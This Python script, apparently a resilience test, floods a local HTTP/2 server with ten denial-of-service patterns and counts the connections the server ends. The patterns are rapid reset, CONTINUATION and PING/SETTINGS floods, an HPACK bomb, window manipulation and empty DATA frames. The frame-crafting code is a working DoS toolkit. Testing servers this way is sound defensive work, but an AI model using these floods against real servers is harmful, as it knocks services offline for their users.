#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""One kind of HTTP/2 flood at a port, for some seconds: flood.py KIND PORT SECONDS.

python3-h2 makes the connections and what is well-formed; hyperframe the frames that it would not send.
Prints what was sent, and how many connections the server ended.
"""
import signal, socket, sys, time

import h2.config
import h2.connection
import h2.settings
from hyperframe import frame as f

HOST, CONNECTIONS, AT_ONCE, PAUSE = "acme-test.localhost", 16, 50, 0.25
signal.signal(signal.SIGINT, lambda *_: setattr(Peer, "told", True))


class Peer:
    """A connection with its state machine; a while after the server ends it, the next is made."""

    told = False  # to end

    def __init__(self, port, settings):
        self.port, self.settings = port, settings
        self.ended = -1
        self.open()

    def over(self):
        self.socket.close()
        self.socket, self.after = None, time.monotonic() + PAUSE

    def open(self):
        self.ended += 1
        self.after = 0
        self.socket = socket.create_connection(("127.0.0.1", self.port), 5)
        self.socket.setblocking(False)
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, validate_outbound_headers=False))
        self.h2.local_settings = h2.settings.Settings(client=True, initial_values=self.settings)
        self.h2.initiate_connection()
        self.stream, self.turns, self.left = -1, 0, self.h2.data_to_send()

    def request(self, path, end=True):
        self.stream += 2
        fields = [(":method", "GET" if end else "POST"), (":scheme", "http"), (":authority", HOST), (":path", path)]
        block = self.h2.encoder.encode(fields)
        return f.HeadersFrame(self.stream, block, flags=["END_HEADERS"] + (["END_STREAM"] if end else []))

    def turn(self, make, reads):
        """Sends as much as goes; False when nothing moved."""
        if time.monotonic() < self.after:
            return False
        if not self.socket:
            self.open()
        try:
            if not self.left:
                self.left = b"".join(x.serialize() for x in make(self))
                self.turns += 1
            sent = self.socket.send(self.left) if self.left else 0
            self.left = self.left[sent:]
        except BlockingIOError:
            sent = 0
        except OSError:
            self.over()
            return True
        try:
            if reads and self.socket.recv(65536) == b"":
                raise ConnectionResetError
        except BlockingIOError:
            pass
        except OSError:
            self.over()
        return sent > 0


def rapid_reset(p):
    out = []
    for _ in range(AT_ONCE):
        out += [p.request("/slow/x"), f.RstStreamFrame(p.stream, 8)]
    return out


def made_resets(p):
    out = []
    for _ in range(AT_ONCE):  # a window beyond 2^31 is the stream's error
        out += [p.request("/slow/x"), f.WindowUpdateFrame(p.stream, window_increment=(1 << 31) - 1)]
    return out


def behind_the_end(p):
    first = [p.request("/slow/x"), f.RstStreamFrame(p.stream, 8)] if p.turns == 0 else []
    return first + [f.DataFrame(p.stream, b"") for _ in range(AT_ONCE)]


def continuation(p):
    first = [f.HeadersFrame(1, b"\x82", flags=["END_STREAM"])] if p.turns == 0 else []
    return first + [f.ContinuationFrame(1, b"\x00\x01x\x01y") for _ in range(AT_ONCE)]


def hpack_bomb(p):
    # A field of 4,000 bytes goes into the table once, and is then named by a byte each.
    large = b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000
    out = [p.request("/slow/x")]
    out[0].data += large + b"\xbe" * 12000
    return out


def tiny_windows(p):
    if p.turns == 0:
        return [p.request("/slow/large") for _ in range(AT_ONCE)]
    p.after = time.monotonic() + PAUSE  # by less than what would end the connection
    return [f.WindowUpdateFrame(1 + 2 * i, window_increment=1) for i in range(AT_ONCE)]


def empty_data(p):
    return ([p.request("/slow/x", end=False)] if p.turns == 0 else []) + [f.DataFrame(p.stream, b"") for _ in range(AT_ONCE)]


KINDS = {  # frames of a turn, SETTINGS, whether it reads what comes
    "rapid reset": (rapid_reset, {}, True),
    "made resets": (made_resets, {}, True),
    "DATA behind the end": (behind_the_end, {}, True),
    "CONTINUATION": (continuation, {}, True),
    "SETTINGS": (lambda p: [f.SettingsFrame(0) for _ in range(AT_ONCE)], {}, False),
    "PING": (lambda p: [f.PingFrame(0, b"12345678") for _ in range(AT_ONCE)], {}, False),
    "HPACK bomb": (hpack_bomb, {}, True),
    "tiny windows": (tiny_windows, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0}, True),
    "empty DATA": (empty_data, {}, True),
    "unread answers": (lambda p: [p.request("/slow/large")] if p.turns < 100 else [], {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 1 << 30}, False),
}


def main():
    kind, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    make, settings, reads = KINDS[kind]
    peers = [Peer(port, settings) for _ in range(CONNECTIONS)]
    end = time.monotonic() + seconds
    while time.monotonic() < end and not Peer.told:
        if not any([p.turn(make, reads) for p in peers]):
            time.sleep(0.001)
    print(f"     {kind}: {sum(p.ended for p in peers)} connections were ended by the server", flush=True)


main()
